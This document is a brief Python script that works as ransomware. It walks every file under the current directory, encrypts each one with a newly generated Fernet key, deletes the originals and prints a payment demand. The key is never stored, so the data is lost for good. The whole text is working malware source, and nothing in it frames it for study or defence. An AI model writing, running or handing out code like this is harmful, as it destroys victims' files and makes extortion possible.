import os
from pathlib import Path
import hashlib
from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
for root, dirs, files in os.walk("."):
    for name in files:
        p = os.path.join(root, name)
        data = open(p, "rb").read()
        with open(p + ".enc", "wb") as out:
            out.write(f.encrypt(data))
        os.remove(p)
print("pay to restore your files")
